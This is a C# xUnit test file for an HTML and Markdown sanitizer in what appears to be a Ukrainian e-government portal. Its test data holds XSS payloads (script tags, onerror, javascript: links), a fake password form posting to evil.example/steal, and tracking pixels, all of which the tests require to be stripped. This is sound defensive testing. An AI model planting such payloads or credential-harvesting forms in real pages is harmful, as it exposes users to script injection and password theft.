using EGov.Collab.App.Common;

namespace EGov.Collab.Tests.Common;

public sealed class SafeHtmlTests
{
    public static TheoryData<string> Payloads() =>
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href=\"javascript:alert(1)\">клік</a>",
        "<svg onload=alert(1)>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<p style=\"background:url(javascript:alert(1))\">текст</p>",
        "[клік](javascript:alert(1))",
        "<details open ontoggle=alert(1)>",
    ];

    [Theory]
    [MemberData(nameof(Payloads))]
    public void NothingThatRuns_SurvivesEitherPath(string payload)
    {
        foreach (var html in new[] { SafeHtml.Sanitize(payload), SafeHtml.FromMarkdown(payload) })
        {
            // Escaped text such as "&lt;svg onload=…&gt;" is inert; what matters is the elements and attributes.
            var elements = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(html).Body!.QuerySelectorAll("*");
            Assert.DoesNotContain(elements, e => e.TagName is "SCRIPT" or "IFRAME" or "SVG");
            Assert.DoesNotContain(elements.SelectMany(e => e.Attributes), a =>
                a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase) || a.Name == "style" ||
                a.Value.Contains("javascript:", StringComparison.OrdinalIgnoreCase));
        }
    }

    [Theory]
    [InlineData("<form action=\"https://evil.example/steal\"><label>Пароль</label><input type=\"password\" name=\"p\"><button>Увійти</button></form>")]
    [InlineData("<select><option>1</option></select><textarea>текст</textarea><fieldset><legend>Вхід</legend></fieldset>")]
    [InlineData("<button formaction=\"https://evil.example\">Надіслати</button>")]
    public void FormsAndControls_AreRemoved_TheirTextKeptAtMost(string payload)
    {
        var elements = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(SafeHtml.Sanitize(payload)).Body!.QuerySelectorAll("*");

        Assert.DoesNotContain(elements, e => e.TagName is "FORM" or "INPUT" or "BUTTON" or "SELECT" or "OPTION" or "TEXTAREA" or "LABEL" or "FIELDSET" or "LEGEND");
    }

    [Theory]
    [InlineData("<img src=\"https://tracker.example/pixel.gif\">")]
    [InlineData("<img src=\"//tracker.example/pixel.gif\">")]
    [InlineData("<img src=\"http://tracker.example/p.gif\" srcset=\"https://tracker.example/p2.gif 2x\">")]
    [InlineData("![піксель](https://tracker.example/pixel.gif)")]
    public void ExternalImages_LoseTheirSource(string payload)
    {
        foreach (var html in new[] { SafeHtml.Sanitize(payload), SafeHtml.FromMarkdown(payload) })
        {
            // Escaped text is inert; what matters is that no image element points elsewhere.
            var images = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(html).Body!.QuerySelectorAll("img");
            Assert.DoesNotContain(images.SelectMany(i => i.Attributes), a => a.Value.Contains("tracker.example", StringComparison.Ordinal));
        }
    }

    [Fact]
    public void ImagesFromThePortalItself_AreKept()
    {
        var html = SafeHtml.Sanitize("<img src=\"/journal/articles/0194a000-0000-7000-8000-000000000001/cover\" alt=\"Обкладинка\">");

        Assert.Contains("src=\"/journal/articles/0194a000-0000-7000-8000-000000000001/cover\"", html, StringComparison.Ordinal);
    }

    [Fact]
    public void Markdown_KeepsFormattingAndUkrainian()
    {
        var html = SafeHtml.FromMarkdown("**Прозорість** і [портал](https://egov.ua) — м'яко");
        Assert.Contains("<strong>Прозорість</strong>", html, StringComparison.Ordinal);
        Assert.Contains("href=\"https://egov.ua\"", html, StringComparison.Ordinal);
        Assert.Contains("rel=\"nofollow noopener noreferrer\"", html, StringComparison.Ordinal);
        Assert.Contains("м'яко", html, StringComparison.Ordinal);
    }

    [Fact]
    public void PlainText_DropsTagsAndFoldsSpace() =>
        Assert.Equal("Заголовок Абзац тексту", SafeHtml.ToPlainText("<h2>Заголовок</h2>\n<p>Абзац   <em>тексту</em></p>"));
}
